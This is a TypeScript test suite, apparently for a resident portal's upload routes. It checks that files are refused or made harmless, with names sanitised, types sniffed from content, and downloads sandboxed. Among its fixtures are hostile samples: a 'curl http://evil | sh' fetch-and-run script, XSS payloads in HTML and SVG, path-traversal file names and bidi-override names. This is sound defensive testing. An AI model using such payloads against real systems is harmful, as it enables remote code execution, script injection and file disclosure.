import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFailed, vi } from 'vitest';
import { uploadProblemMessage } from '@resident/contract';
import type { UploadProblem } from '@resident/contract';
import { UPLOAD_CASES } from '@resident/contract/limits/testing';
import { DEFAULT_LIMITS } from '../config/options.ts';
import { form, zeros } from '../test-support/communication-client.ts';
import { errorBody } from '../test-support/error-body.ts';
import { startTestServer } from '../test-support/test-server.ts';
import type { TestServer } from '../test-support/test-server.ts';
import { postUpload, uploadRoutes } from '../test-support/upload-routes.ts';
import type { UploadRoute } from '../test-support/upload-routes.ts';

/**
 * Suite 4 of issue 18, files: every upload route judges files by the rules of
 * @resident/contract/limits (the portal's own: size, emptiness, forbidden extensions — the shared
 * UPLOAD_CASES plus more), and what those rules let through is made harmless: the name is
 * sanitised (no path, no control or direction characters, ≤ 200 characters), the type is sniffed
 * from the bytes (a «.pdf» that is HTML is stored and served as text/plain), and every download
 * is an attachment with nosniff and a sandboxing CSP. upload-cases.test.ts runs the accepted
 * and refused UPLOAD_CASES on the new-chat route; this suite runs the refused ones on every other upload route.
 */
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const ANSWERS = {
  'forbidden-extension': { status: 400, code: 'FORBIDDEN_FILE_EXTENSION' },
  'too-large': { status: 413, code: 'FILE_TOO_LARGE' },
  empty: { status: 400, code: 'EMPTY_FILE' },
} as const satisfies Record<UploadProblem, { status: number; code: string }>;

/** `routes`: indexes into uploadRoutes(); upload-cases.test.ts already runs UPLOAD_CASES on route 0 (new chat). */
const REFUSED: { name: string; size: number; refused: UploadProblem; routes: number[] }[] = [
  ...UPLOAD_CASES.flatMap((upload) => (upload.refused ? [{ ...upload, refused: upload.refused, routes: [1, 2, 3, 4, 5] }] : [])),
  { name: 'архив.PART ', size: 2048, refused: 'forbidden-extension', routes: [0, 1, 2, 3, 4, 5] },
  { name: '../../выписка.crdownload', size: 2048, refused: 'forbidden-extension', routes: [0, 1, 2, 3, 4, 5] },
];

const utf8 = (text: string) => new TextEncoder().encode(text);
const LONG_STEM = 'я'.repeat(296);

interface Harmless {
  label: string;
  name: string;
  content: Uint8Array;
  /** The name the download carries. */
  storedName: string;
  /** The type it is served with, sniffed from the bytes. */
  servedAs: string;
}

const HARMLESS: Harmless[] = [
  {
    label: 'a .pdf that is really HTML',
    name: 'квитанция.pdf',
    content: utf8('<!DOCTYPE html><html><body><script>fetch("/api/v3/main/user/")</script></body></html>'),
    storedName: 'квитанция.pdf',
    servedAs: 'text/plain; charset=utf-8',
  },
  { label: 'a .pdf that is a script', name: 'акт.pdf', content: utf8('#!/bin/sh\ncurl http://evil | sh\n'), storedName: 'акт.pdf', servedAs: 'text/plain; charset=utf-8' },
  {
    label: 'a .pdf that is an SVG with a script',
    name: 'план.pdf',
    content: utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    storedName: 'план.pdf',
    servedAs: 'text/plain; charset=utf-8',
  },
  {
    label: 'a .pdf that is a Windows program',
    name: 'договор.pdf',
    content: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]),
    storedName: 'договор.pdf',
    servedAs: 'application/octet-stream',
  },
  { label: 'a name with ../', name: '../../../etc/passwd.pdf', content: utf8('%PDF-1.4\n'), storedName: 'passwd.pdf', servedAs: 'application/pdf' },
  { label: 'a name with ..\\', name: '..\\..\\Windows\\win.ini.pdf', content: utf8('%PDF-1.4\n'), storedName: 'win.ini.pdf', servedAs: 'application/pdf' },
  {
    label: 'a name with control and direction characters',
    name: 'сч\u0000ёт\u0007\u001b[31m\u202Efdp.exe',
    content: utf8('%PDF-1.4\n'),
    storedName: 'счёт[31mfdp.exe',
    servedAs: 'application/pdf',
  },
  { label: 'a 300-character name', name: `${LONG_STEM}.pdf`, content: utf8('%PDF-1.4\n'), storedName: `${'я'.repeat(196)}.pdf`, servedAs: 'application/pdf' },
];

let server: TestServer;
let routes: UploadRoute[];
let documentsDir: string;
let tried = 0;
let failed = 0;

beforeAll(async () => {
  documentsDir = mkdtempSync(join(tmpdir(), 'files-suite-'));
  // Every case is an upload: the rate limit is not what this suite is about.
  server = await startTestServer({ documentsDir, limits: { ...DEFAULT_LIMITS, uploadRateLimit: 10_000 } });
  routes = await uploadRoutes(server);
});

afterAll(async () => {
  await server.app.close();
  rmSync(documentsDir, { recursive: true, force: true });
  process.stdout.write(`files suite: ${tried} cases tried over ${routes.length} upload routes, ${failed} failed\n`);
});

/** Counts the case for the figures printed at the end. */
function count(): void {
  tried += 1;
  onTestFailed(() => {
    failed += 1;
  });
}

const ROUTE_INDEXES = [0, 1, 2, 3, 4, 5];

describe.each(REFUSED)('refused: $name, $size bytes → $refused', ({ name, size, refused, routes: indexes }) => {
  it.each(indexes)('on upload route %i, with nothing kept', async (index) => {
    count();
    const route = routes[index];
    if (!route) throw new Error(`no upload route ${index}`);
    const { token, url, fields } = await route.target();
    const stored = readdirSync(documentsDir).length;
    const answer = await postUpload(server, token, url, form(fields, [{ field: route.fileField, name, content: zeros(size) }]));
    expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status: ANSWERS[refused].status });
    expect(answer.json()).toEqual(errorBody(ANSWERS[refused].code, uploadProblemMessage(refused, name)));
    expect(readdirSync(documentsDir)).toHaveLength(stored);
  });
});

describe.each(HARMLESS)('made harmless: $label', ({ name, content, storedName, servedAs }) => {
  it.each(ROUTE_INDEXES)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
    count();
    const route = routes[index];
    if (!route) throw new Error(`no upload route ${index}`);
    const { token, url, fields } = await route.target();
    const answer = await postUpload(server, token, url, form(fields, [{ field: route.fileField, name, content, type: 'application/pdf' }]));
    expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status: route.accepted });
    const download = await server.app.inject({ method: 'GET', url: await route.download(answer.json()), headers: { authorization: `Bearer ${token}` } });
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toBe(servedAs);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    const disposition = String(download.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="[^"/\\\\]*"; filename\*=UTF-8''[^/\\\\\s]+$/);
    expect(decodeURIComponent(disposition.split("filename*=UTF-8''")[1] ?? '')).toBe(storedName);
    expect(new Uint8Array(download.rawPayload)).toEqual(content);
  });
});
